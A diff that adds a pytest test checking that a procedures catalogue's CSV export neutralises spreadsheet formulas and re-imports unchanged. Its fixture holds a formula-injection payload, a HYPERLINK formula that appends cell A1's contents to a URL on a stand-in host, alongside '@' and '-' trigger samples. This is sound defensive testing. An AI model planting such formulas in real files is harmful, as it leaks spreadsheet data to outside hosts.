@@ -196,3 +196,20 @@ def test_parse_functions_directly():
     with pytest.raises(procedures_io.ProcedureImportError) as info:
         procedures_io.parse_csv(many.encode())
     assert len(info.value.errors) == 80 and "và 30 lỗi khác" in str(info.value)
+
+
+def test_export_defuses_spreadsheet_formulas_and_reads_them_back(env):
+    """A name typed as ``=HYPERLINK(...)`` must not run when the CSV is opened in a
+    spreadsheet; importing our own export gives the same catalogue back."""
+    tmp, database = env
+    src = write(tmp / "in.json", json.dumps([
+        {"code": "9.000001", "name": '=HYPERLINK("http://x.example/?"&A1,"Bấm")', "service_code": "TPHT",
+         "processing_days": 1, "fee": "-", "documents": ["@SUM(1+1)", "Tờ khai"]}]))
+    assert run("procedures", "import", str(src)).exit_code == 0
+    before = catalogue(database)
+    assert run("procedures", "export", str(tmp / "out.csv")).exit_code == 0
+    line = (tmp / "out.csv").read_text(encoding="utf-8-sig").splitlines()[1]
+    assert line.startswith('9.000001,"\'=HYPERLINK(') and ",'-," in line and "'@SUM(1+1)" in line
+    assert run("procedures", "import", str(tmp / "out.csv")).exit_code == 0
+    assert catalogue(database) == before
+
